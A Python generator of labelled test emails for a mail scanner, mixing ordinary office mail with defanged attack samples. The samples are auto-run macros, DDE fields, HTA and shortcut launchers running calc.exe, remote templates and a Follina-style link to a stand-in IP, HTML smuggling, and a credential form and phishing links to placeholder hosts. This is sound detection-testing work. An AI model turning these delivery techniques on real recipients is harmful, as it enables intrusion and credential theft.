#!/usr/bin/env python3
"""mail_corpus.py - makes mails for tests and benches: kinds of attack without harm, and what offices send.

    mail_corpus.py FOLDER [--each N] [--seed S]    N mails of each kind (default 5), and truth.tsv
    mail_corpus.py --list                          the kinds

truth.tsv has a line for each mail: file, kind, what the verdict must be (clean: at most not_inspected below
suspicious; else "found"), findings of which one must be told. The same seed gives the same mails. Commands are
"calc", addresses are of RFC 5737 and .example; nothing in them runs or leads anywhere.
"""
import argparse
import base64
import email.header
import os
import random
import sys

import mail_binary as binary

HOST = "http://192.0.2.77/"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
GREETINGS = ["Please find the document attached.", "As discussed on the phone, here are the figures.",
             "お世話になっております。資料をお送りいたします。", "Bonjour, veuillez trouver le document ci-joint.",
             "Sehr geehrte Damen und Herren, anbei die Unterlagen."]
NAMES = ["invoice", "report", "contract", "schedule", "quotation", "請求書", "議事録", "見積書"]
PEOPLE = ["Taro Yamada", "Hanako Sato", "John Smith", "Maria Rossi", "佐藤花子"]


class Maker:
    """What the kinds draw from: chance with a seed, names, texts."""

    def __init__(self, seed):
        self.chance = random.Random(seed)

    def name(self, extension):
        return f"{self.chance.choice(NAMES)}-{self.chance.randint(100, 999)}.{extension}"

    def text(self):
        return self.chance.choice(GREETINGS)

    def words(self, count):
        letters = "abcdefghijklmnopqrstuvwxyz"
        return " ".join("".join(self.chance.choices(letters, k=self.chance.randint(2, 9))) for _ in range(count))

    def token(self, length=8):
        return "".join(self.chance.choices("abcdefghjkmnpqrstuvwxyz23456789", k=length))

    def bytes(self, count):
        return self.chance.randbytes(count)


def encoded(text):
    return text if text.isascii() else email.header.Header(text, "utf-8").encode()


def folded(data):
    text = base64.b64encode(data).decode()
    return "\r\n".join(text[i:i + 76] for i in range(0, len(text), 76))


def mail(m, parts=(), text=None, html=None, headers=(), subject=None):
    """A whole mail. `parts`: (name, type, bytes). Written by hand so that its form is known to the byte."""
    mark = "=_" + m.token(16)
    person = m.chance.choice(PEOPLE)
    lines = [f"Received: from mail.partner.example by mx.office.example; Sun, 1 Feb 2026 09:{m.chance.randint(10, 59)}:00 +0000",
             f"From: {encoded(person)} <{m.token(6)}@partner.example>", "To: office@office.example",
             f"Subject: {encoded(subject or m.chance.choice(NAMES))}", "Date: Sun, 01 Feb 2026 09:00:00 +0000",
             f"Message-ID: <{m.token(20)}@partner.example>", "MIME-Version: 1.0", *headers,
             f'Content-Type: multipart/mixed; boundary="{mark}"', "", "This is a message in several parts.", ""]
    if html is not None:
        lines += [f"--{mark}", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
                  folded(html.encode())]
    else:
        lines += [f"--{mark}", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
                  folded((text if text is not None else m.text() + "\r\n").encode())]
    for name, kind, data in parts:
        if name.isascii():
            label = f'filename="{name}"'
        else:
            label = "filename*=utf-8''" + "".join(f"%{b:02X}" for b in name.encode())
        lines += [f"--{mark}", f"Content-Type: {kind}", "Content-Transfer-Encoding: base64",
                  f"Content-Disposition: attachment; {label}", "", folded(data)]
    return "\r\n".join(lines + [f"--{mark}--", ""]).encode()


def stream(m, name, data, kind="application/octet-stream", **more):
    return mail(m, [(name, kind, data)], **more)


# --- documents ---

def docx(m, relations=(), body="", more=None, settings=()):
    def rels(rows):
        return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                f'<Relationships xmlns="{PACKAGE}relationships">' + "".join(
                    f'<Relationship Id="rId{n}" Type="{RELATION}{kind}" Target="{target}"'
                    + (' TargetMode="External"' if outside else "") + "/>"
                    for n, (kind, target, outside) in enumerate(rows, 1)) + "</Relationships>")
    paragraphs = "".join(f"<w:p><w:r><w:t>{m.words(12)}</w:t></w:r></w:p>" for _ in range(m.chance.randint(3, 40)))
    files = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{PACKAGE}content-types"><Default Extension="rels" '
                               'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
                               'Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": rels([("officeDocument", "word/document.xml", False)]),
        "word/document.xml": f'<?xml version="1.0"?><w:document {WORD}><w:body>{paragraphs}{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": rels([("settings", "settings.xml", False), *relations]),
        "word/settings.xml": f'<?xml version="1.0"?><w:settings {WORD}/>',
    }
    if settings:
        files["word/_rels/settings.xml.rels"] = rels(settings)
    files.update(more or {})
    return binary.zipped(files)


def xlsx(m, more=None):
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{m.chance.randint(1, 9999)}</v></c>' for c in "ABCDEF")
                   + "</row>" for r in range(1, m.chance.randint(10, 60)))
    sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    files = {"[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{PACKAGE}content-types"/>',
             "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{sheet}"><sheets><sheet name="S" sheetId="1"/>'
                                "</sheets></workbook>",
             "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?><worksheet xmlns="{sheet}"><sheetData>{rows}'
                                         "</sheetData></worksheet>"}
    files.update(more or {})
    return binary.zipped(files)


MACRO = ('Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n  Dim s\r\n  Set s = CreateObject("WScr" & "ipt.Shell")'
         '\r\n  s.Run "cmd /c calc.exe", 0\r\nEnd Sub\r\n')


def pdf(m, catalogue=b"", objects=()):
    content = b"BT /F1 12 Tf 72 720 Td (" + m.words(20).encode() + b") Tj ET"
    return binary.pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
                       b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                       b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                       b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream", *objects])


# --- kinds: what must be told of each; the first line of each function says what it is ---

KINDS = []


def kind(*findings, clean=False):
    def keep(make):
        KINDS.append((make.__name__, make, "clean" if clean else "found", findings))
        return make
    return keep


@kind("remote_template")
def remote_template(m):
    return stream(m, m.name("docx"), docx(m, settings=[("attachedTemplate", f"{HOST}{m.token()}.dotm", True)]))


@kind("rtf_template")
def rtf_template(m):
    return stream(m, m.name("rtf"), (r"{\rtf1\ansi{\*\template " + HOST + m.token() + "}" + m.words(30) + "}").encode())


@kind("macro_calls", "macro_autorun")
def macro(m):
    project = binary.compound(binary.vba_project(MACRO.encode()))
    return stream(m, m.name("docm"), docx(m, relations=[("vbaProject", "vbaProject.bin", False)],
                                          more={"word/vbaProject.bin": project}))


@kind("xlm_calls", "xlm_macro")
def xlm(m):
    sheet = ('<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
             ' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1">'
             '<f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')
    return stream(m, m.name("xlsm"), xlsx(m, {"xl/macrosheets/sheet1.xml": sheet}))


@kind("dde_command", "dde")
def dde(m):
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32'
             '\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return stream(m, m.name("docx"), docx(m, body=field))


@kind("ole_package")
def package(m):
    hidden = binary.ole_package("readme.js", b'WScript.Echo("hello");')
    return stream(m, m.name("docx"), docx(m, relations=[("oleObject", "embeddings/oleObject1.bin", False)],
                                          more={"word/embeddings/oleObject1.bin": hidden}))


@kind("follina")
def follina(m):
    return stream(m, m.name("docx"), docx(m, relations=[("oleObject", f"{HOST}{m.token()}.html!", True)]))


@kind("equation_editor")
def equation(m):
    native = b"\x1c\0\0\0\2\0\x9e\xc4\xa9\0\0\0\0\0\0\0\xc8\xa7\\\0\xc4\xee[\0\0\0\0\0\3\1\1\3\n\n\x08" + b"A" * 60
    ole1 = (b"\1\5\0\0\2\0\0\0\x0b\0\0\0Equation.3\0\0\0\0\0\0\0\0\0" + len(native).to_bytes(4, "little") + native)
    return stream(m, m.name("doc"), (r"{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata " +
                                     ole1.hex() + "}}}").encode())


@kind("lnk_command")
def lnk_in_zip(m):
    link = binary.shortcut("..\\..\\Windows\\System32\\cmd.exe", "/c calc.exe", "%SystemRoot%\\system32\\imageres.dll")
    return stream(m, m.name("zip"), binary.zipped({m.name("pdf") + ".lnk": link}))


@kind("script_command", "script_attached")
def hta(m):
    page = '<html><hta:application/><script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script></html>'
    return stream(m, m.name("hta"), page.encode())


@kind("script_attached", "script_command")
def script_in_zip(m):
    return stream(m, m.name("zip"), binary.zipped({m.name("js"): 'var s = new ActiveXObject("WScript.Shell");\n'
                                                                 's.Run("calc.exe");\n'}))


@kind("smuggling")
def html_smuggling(m):
    hidden = base64.b64encode(binary.zipped({"a.exe": binary.program()})).decode()
    page = (f"<html><body><script>var d=atob('{hidden}');var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)"
            "a[i]=d.charCodeAt(i);var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));"
            "l.download='invoice.zip';l.click();</script></body></html>")
    return stream(m, m.name("html"), page.encode(), "text/html")


@kind("smuggling")
def svg_smuggling(m):
    hidden = base64.b64encode(binary.zipped({"a.js": "WScript.Echo(1)"})).decode()
    page = ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script type="text/ecmascript"><![CDATA['
            f"var b=atob('{hidden}');var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);"
            "var l=document.createElementNS('http://www.w3.org/1999/xhtml','a');l.href=URL.createObjectURL(new Blob([u]));"
            "l.setAttribute('download','a.zip');l.click();]]></script></svg>")
    return stream(m, m.name("svg"), page.encode(), "image/svg+xml")


@kind("disk_image")
def disk_image(m):
    return stream(m, m.name("iso"), binary.disk("INVOICE.EXE", binary.program()))


@kind("password_in_mail")
def locked_zip(m):
    password = m.token()
    text = m.chance.choice(["The password is {}", "Password: {}", "解凍パスワード：{}", "パスワードは {} です。", "PW: {}"])
    return stream(m, m.name("zip"), binary.zip_locked("invoice.exe", binary.program(), password.encode()),
                  text="See the attachment.\r\n" + text.format(password) + "\r\n")


@kind("double_extension")
def double_extension(m):
    return stream(m, m.name("pdf") + ".exe", binary.program())


@kind("name_reversed")
def reversed_name(m):
    return stream(m, m.name("zip"), binary.zipped({"invoice\u202efdp.exe": binary.program()}))


@kind("name_spaces", "double_extension")
def spaces_in_name(m):
    return stream(m, m.name("zip"), binary.zipped({"invoice.pdf" + " " * 80 + ".exe": binary.program()}))


@kind("type_disguised")
def disguised_program(m):
    return stream(m, m.name("jpg"), binary.program(), "image/jpeg")


@kind("onenote_file")
def onenote(m):
    return stream(m, m.name("one"), binary.note(b'<html><hta:application/><script language="VBScript">'
                                               b'CreateObject("WScript.Shell").Run "calc.exe"</script></html>'))


@kind("pdf_launch")
def pdf_launch(m):
    return stream(m, m.name("pdf"), pdf(m, b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
                  "application/pdf")


@kind("pdf_javascript")
def pdf_script(m):
    return stream(m, m.name("pdf"), pdf(m, b"/OpenAction << /S /J#61vaScript /JS (app.launchURL\\('http://192.0.2.77/'\\)) >>"),
                  "application/pdf")


@kind("calendar_link")
def calendar_link(m):
    text = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@partner.example\r\nDTSTART:20260201T090000Z\r\n"
            f"SUMMARY:Your account\r\nDESCRIPTION:Confirm at {HOST}{m.token()}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    return stream(m, "invite.ics", text.encode(), "text/calendar")


@kind("link_text_differs")
def link_text(m):
    return mail(m, html=f'<p>{m.words(20)}</p><a href="http://{m.token()}.evil.example/login">https://www.paypal.com/signin</a>')


@kind("link_lookalike")
def lookalike(m):
    host = m.chance.choice(["xn--pypal-4ve.com", "paypa1.com", "micros0ft.com", "arnazon.com"])
    return mail(m, html=f'<p>{m.words(20)}</p><a href="https://{host}/{m.token()}">Sign in</a>')


@kind("page_password_form")
def page_password(m):
    page = (f'<html><body><form method="post" action="{HOST}{m.token()}.php">E-mail <input type="text" name="e">'
            'Password <input type="password" name="p"><input type="submit"></form></body></html>')
    return stream(m, m.name("html"), page.encode(), "text/html")


@kind("remote_template")
def nested(m):
    """A document in an archive in a forwarded mail."""
    inner = stream(m, m.name("zip"), binary.zipped({m.name("docx"): docx(
        m, settings=[("attachedTemplate", f"{HOST}{m.token()}.dotm", True)])}))
    mark = "=_" + m.token(16)
    return ("\r\n".join(["From: Taro <taro@partner.example>", "To: office@office.example", "Subject: Fwd", "MIME-Version: 1.0",
                         f"Content-Type: multipart/mixed; boundary={mark}", "", f"--{mark}", "Content-Type: text/plain", "",
                         "see below", f"--{mark}", "Content-Type: message/rfc822", "", ""]).encode() + inner +
            f"\r\n--{mark}--\r\n".encode())


# --- what offices send ---

@kind(clean=True)
def plain(m):
    return mail(m, text="\r\n".join(m.words(12) for _ in range(m.chance.randint(3, 60))) + "\r\n")


@kind(clean=True)
def newsletter(m):
    rows = "".join(f'<tr><td><a href="https://news.partner.example/c/{m.token(20)}"><img src="https://img.partner.example/'
                   f'{m.token()}.png" width=600></a><p>{m.words(40)}</p></td></tr>' for _ in range(m.chance.randint(4, 30)))
    return mail(m, html="<html><head><style>p{font-family:sans-serif}</style></head><body><div style='display:none'>"
                        f"{m.words(8)}</div><table>{rows}</table><a href='https://news.partner.example/unsubscribe'>"
                        "Unsubscribe</a></body></html>",
                headers=["List-Unsubscribe: <https://news.partner.example/unsubscribe>"])


@kind(clean=True)
def document(m):
    return stream(m, m.name("docx"), docx(m, relations=[("hyperlink", "https://www.partner.example/", True)]))


@kind(clean=True)
def workbook(m):
    return stream(m, m.name("xlsx"), xlsx(m))


@kind(clean=True)
def pdf_report(m):
    return stream(m, m.name("pdf"), pdf(m), "application/pdf")


@kind(clean=True)
def pictures(m):
    return mail(m, [(m.name("png"), "image/png", binary.picture()) for _ in range(3)] +
                [(m.name("jpg"), "image/jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + m.bytes(20000) + b"\xff\xd9")])


@kind(clean=True)
def archive(m):
    return stream(m, m.name("zip"), binary.zipped({m.name("csv"): m.words(300), m.name("docx"): docx(m), "readme.txt": "x"}))


@kind(clean=True)
def habit_of_locked_zip(m):
    """PPAP: the password comes in another mail."""
    return stream(m, m.name("zip"), binary.zip_locked("report.docx", docx(m), m.token(10).encode()),
                  text="添付ファイルのパスワードは別途メールにてお送りいたします。\r\n")


@kind(clean=True)
def invitation(m):
    text = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@partner.example\r\nDTSTART:20260201T090000Z\r\n"
            "ORGANIZER:mailto:taro@partner.example\r\nSUMMARY:Weekly\r\nLOCATION:https://teams.microsoft.com/l/meetup-join/1\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n")
    return stream(m, "invite.ics", text.encode(), "text/calendar")


@kind(clean=True)
def japanese_plain(m):
    body = "いつもお世話になっております。\r\n来週の会議についてご連絡いたします。\r\n".encode("iso-2022-jp")
    subject = email.header.Header("会議のご案内", "iso-2022-jp").encode()
    return (f"From: taro@partner.example\r\nTo: office@office.example\r\nSubject: {subject}\r\nMessage-ID: <{m.token()}@p.example>\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=iso-2022-jp\r\n\r\n").encode() + body


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", nargs="?")
    parser.add_argument("--each", type=int, default=5)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--list", action="store_true")
    arguments = parser.parse_args()
    if arguments.list:
        for name, _, verdict, findings in KINDS:
            print(f"{name}\t{verdict}\t{','.join(findings)}")
        return 0
    if not arguments.folder:
        parser.error("which folder?")
    os.makedirs(arguments.folder, exist_ok=True)
    with open(os.path.join(arguments.folder, "truth.tsv"), "w", encoding="utf-8") as truth:
        for name, make, verdict, findings in KINDS:
            for n in range(arguments.each):
                file = f"{name}-{n}.eml"
                with open(os.path.join(arguments.folder, file), "wb") as out:
                    out.write(make(Maker(f"{arguments.seed} {name} {n}")))
                truth.write(f"{file}\t{name}\t{verdict}\t{','.join(findings)}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
